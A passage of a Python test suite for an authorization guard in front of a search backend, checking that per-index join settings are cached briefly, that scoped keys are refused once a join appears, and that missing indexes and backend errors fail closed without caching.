        assert send(guard, backend, forced["key"], "POST", "/multi-search", many)[0] == 200
        assert sorted(backend.lookups) == sorted("i%d" % n for n in range(20))
    finally:
        backend.joins.clear()


JOINS_FRESH_FOR = 0.25  # seconds the guard reuses an index's foreignKeys (its SETTINGS_FRESH_FOR)


def search_until(guard, backend, credential, status, seconds=5.0):
    """Search `movies` until the answer is `status`; fail after `seconds`."""
    started = time.monotonic()
    while True:
        answer = send(guard, backend, credential, "POST", "/indexes/movies/search", {"q": "x"})
        if answer[0] == status:
            return
        assert time.monotonic() - started < seconds, answer
        time.sleep(0.02)


def test_an_index_s_joins_are_looked_up_at_most_once_a_moment(own_guard, backend):
    # the joins check costs a backend round trip a search: each index's answer is reused for
    # JOINS_FRESH_FOR seconds, on every search route and /authorize
    guard = own_guard
    scoped = new_key(guard, None, indexes=("movies",))
    backend.lookups.clear()
    started = time.monotonic()
    for _ in range(5):
        for method, target, body in (
                ("POST", "/indexes/movies/search", {"q": "x"}),
                ("GET", "/indexes/movies/search?q=x", None),
                ("POST", "/multi-search", {"queries": [{"indexUid": "movies"}]})):
            assert send(guard, backend, scoped["key"], method, target, body)[0] == 200
        assert guard.request("GET", "/authorize", None, {
            "Authorization": "Bearer " + scoped["key"], "X-Original-Method": "GET",
            "X-Original-URI": "/indexes/movies/search?q=x"})[0] == 204
    took = time.monotonic() - started
    assert set(backend.lookups) == {"movies"}
    assert len(backend.lookups) <= 1 + took / JOINS_FRESH_FOR, (len(backend.lookups), took)
    # a join added meanwhile is refused soon, and from then on
    backend.joins["movies"] = [{"foreignIndexUid": "owners", "fieldName": "owner"}]
    try:
        search_until(guard, backend, scoped["key"], 403)
        assert send(guard, backend, scoped["key"], "POST", "/indexes/movies/search",
                    {"q": "x"})[0] == 403
    finally:
        backend.joins.clear()
    search_until(guard, backend, scoped["key"], 200)


def test_what_is_not_the_setting_is_asked_again_each_time(own_guard, backend):
    # a missing index (relayed) and the backend's errors (failing closed) are not reused: each
    # search asks again, and is answered as soon as the backend answers the setting
    guard = own_guard
    scoped = new_key(guard, None, indexes=("gone", "broken"))
    backend.missing.add("gone")
    backend.joins["broken"] = 500
    try:
        for index, status, code in (("gone", 404, "index_not_found"),
                                    ("broken", 502, "upstream_unavailable")):
            backend.lookups.clear()
            for _ in range(3):
                answer, error, sent = send(guard, backend, scoped["key"], "POST",
                                           "/indexes/%s/search" % index, {"q": "x"})
                assert (answer, error["code"], sent) == (status, code, None), error
            assert backend.lookups == [index] * 3
    finally:
        backend.missing.clear()
        backend.joins.clear()
    for index in ("gone", "broken"):
        assert send(guard, backend, scoped["key"], "POST", "/indexes/%s/search" % index,
                    {"q": "x"})[0] == 200
